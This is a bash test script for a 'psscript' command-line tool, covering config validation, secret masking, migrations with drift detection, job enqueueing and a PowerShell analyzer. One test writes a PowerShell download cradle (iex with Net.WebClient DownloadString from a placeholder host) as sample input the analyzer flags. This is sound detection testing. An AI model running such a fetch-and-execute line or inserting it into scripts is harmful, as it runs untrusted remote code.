#!/usr/bin/env bash
# test-cli.sh: the psscript command line: configuration validation (a clear message naming the
# bad key), migrations status/up/down with drift detection, job enqueue. TAP output.
# Runs on a scratch database (DB_NAME) given by tests/run-integration.sh.
set -u
source "$(dirname "$0")/../tap.sh"
ps=$PSS_BIN/psscript


expect "bad integer names the key" 2 "DB_PORT (environment): must be a whole number from 1 to 65535" \
	env DB_PORT=abc "$ps" config check
expect "out of range names the key" 2 "REDIS_PORT" env REDIS_PORT=70000 "$ps" config check
expect "bad boolean names the key" 2 "DB_SSL (environment): must be true or false" env DB_SSL=maybe "$ps" config check
expect "bad environment value names the key" 2 "PSSCRIPT_ENV" env PSSCRIPT_ENV=staging "$ps" config check
expect "bad DATABASE_URL scheme" 2 "DATABASE_URL" env DATABASE_URL=mysql://x "$ps" config check
cfg=$(mktemp)
printf 'DB_HOST=localhost\nDB_PROT=5432\n' >"$cfg"
expect "unknown key in the file names file, line and key" 2 "$cfg:2: unknown key DB_PROT" \
	env PSSCRIPT_CONFIG="$cfg" "$ps" config check
printf '# comment\n\nDB_NAME = "fromfile"\nREDIS_DB=3\n' >"$cfg"
expect "file values are read (quotes and spaces trimmed)" 0 "DB_NAME=fromfile" env -u DB_NAME PSSCRIPT_CONFIG="$cfg" "$ps" config check
expect "the environment wins over the file" 0 "REDIS_DB=5" env PSSCRIPT_CONFIG="$cfg" REDIS_DB=5 "$ps" config check
expect "secrets are masked" 0 "DB_PASSWORD=********" env DB_PASSWORD=hunter2 "$ps" config check
if env DB_PASSWORD=hunter2 "$ps" config check | grep -q hunter2; then notok "password never printed"; else ok "password never printed"; fi
expect "the FastCGI worker refuses a bad configuration" 2 "configuration error: MAX_BODY_BYTES" \
	env MAX_BODY_BYTES=-1 "$PSS_BIN/psscript-fcgi"
expect "the job runner refuses a bad configuration" 2 "configuration error: LOG_LEVEL" \
	env LOG_LEVEL=loud "$PSS_BIN/psscript-worker"
settings=$(mktemp --suffix=.psd1)
printf '@{\n  Rules = @{ PSAvoidLongLines = @{ Enable = "yes" } }\n}\n' >"$settings"
expect "the job runner refuses bad analyzer settings, naming the setting and the key" 2 \
	"configuration error: ANALYZER_SETTINGS=$settings: Rules.PSAvoidLongLines.Enable (line 2): expected \$true or \$false" \
	env ANALYZER_SETTINGS="$settings" "$PSS_BIN/psscript-worker"
expect "the job runner refuses a missing analyzer settings file" 2 "ANALYZER_SETTINGS=/nonexistent.psd1: No such file" \
	env ANALYZER_SETTINGS=/nonexistent.psd1 "$PSS_BIN/psscript-worker"
rm -f "$settings"
expect "unknown command is a usage error" 2 "unknown command" "$ps" frobnicate

expect "status on an empty database lists pending migrations" 1 "pending" "$ps" migrate status
expect "up applies everything" 0 "database at the latest version" "$ps" migrate up
expect "status after up is clean" 0 "0 pending, 0 drifted" "$ps" migrate status
expect "up again is a no-op" 0 "up: 0 applied" "$ps" migrate up
expect "ten default categories are seeded" 0 "10" psql -qtAX -d "$DB_NAME" -c "SELECT count(*) FROM categories WHERE id BETWEEN 1 AND 10"
psql -qtAX -d "$DB_NAME" -c "UPDATE schema_migrations SET checksum = repeat('0', 64) WHERE version = 3" >/dev/null
expect "a changed file is reported as drift" 1 "DRIFT" "$ps" migrate status
expect "down rolls back the last one" 0 "down: 1 rolled back" "$ps" migrate down
expect "down all rolls back the rest" 0 "rolled back" "$ps" migrate down all
expect "no tables but schema_migrations remain" 0 "schema_migrations" psql -qtAX -d "$DB_NAME" -c \
	"SELECT string_agg(tablename, ',') FROM pg_tables WHERE schemaname = 'public'"
expect "up again after down to zero" 0 "database at the latest version" "$ps" migrate up
expect "a missing migrations folder is a clear error" 1 "migrations folder" "$ps" migrate up --dir /nonexistent
expect "job enqueue prints the id" 0 "" "$ps" job enqueue maintenance.cleanup
expect "job enqueue rejects a bad payload" 1 "invalid input" "$ps" job enqueue maintenance.cleanup '{not json'
ps1=$(mktemp --suffix=.ps1)
printf 'iex (New-Object Net.WebClient).DownloadString("http://x.example/a")\n' >"$ps1"
expect "psscript analyze reports a download cradle and exits 1 at --fail-on error" 1 "PSSAvoidDownloadCradle" \
	"$ps" analyze "$ps1" --fail-on error
expect "psscript analyze writes SARIF 2.1.0" 1 '"version":"2.1.0"' "$ps" analyze "$ps1" --format sarif --fail-on error
expect "psscript analyze reads stdin and exits 0 when clean" 0 "0 errors" bash -c "echo Get-Date | '$ps' analyze -"
expect "psscript analyze needs no database or configuration" 0 "0 errors" \
	bash -c "echo Get-Date | env -i PATH=/usr/bin:/bin DB_PORT=abc '$ps' analyze -"
expect "psscript analyze: a missing file is exit 2" 2 "No such file" "$ps" analyze /nonexistent.ps1
rm -f "$out" "$cfg" "$ps1"
done_testing
